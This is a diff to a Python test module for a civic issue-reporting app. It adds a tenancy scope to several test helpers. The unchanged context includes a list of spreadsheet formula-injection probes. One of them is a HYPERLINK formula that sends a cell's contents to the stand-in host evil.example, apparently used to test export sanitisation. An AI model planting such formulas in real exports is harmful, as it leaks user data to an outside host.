@@ -9,6 +9,7 @@ import sqlalchemy as sa
 
 from tests.reporting.conftest import REPORTER, WHERE
 from tests.reporting.test_open311 import post_request
+from civic.core.tenancy import place_wide
 
 try:  # the strictest parser there is, when it is installed; the standard one is strict about XML 1.0 too
     from defusedxml.ElementTree import fromstring as strict_parse
@@ -21,7 +22,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", 
 def run(app, fn):
     from civic.core.db import unit_of_work
 
-    with app.app_context(), unit_of_work():
+    with app.app_context(), place_wide("tests.inspection"), unit_of_work():
         return fn()
 
 
@@ -241,7 +242,7 @@ def audit_entries(app):
     from civic.core.audit import AuditEntry
     from civic.core.db import session
 
-    with app.app_context():
+    with app.app_context(), place_wide("tests.inspection"):
         return [(a.action, a.actor, a.subject_id, a.detail) for a in session.scalars(
             sa.select(AuditEntry).where(AuditEntry.action.like("reporting.%")).order_by(AuditEntry.time))]
 
@@ -250,7 +251,7 @@ def test_a_clients_reads_of_personal_data_are_audited(client, app, place, make):
     from civic.gateway.models import Client
 
     headers = make.headers(place.council, "reporting:read", name="Machine reader")
-    with app.app_context():
+    with app.app_context(), place_wide("tests.inspection"):
         from civic.core.db import session
 
         reader = session.scalars(sa.select(Client).where(Client.name == "Machine reader")).one().client_id
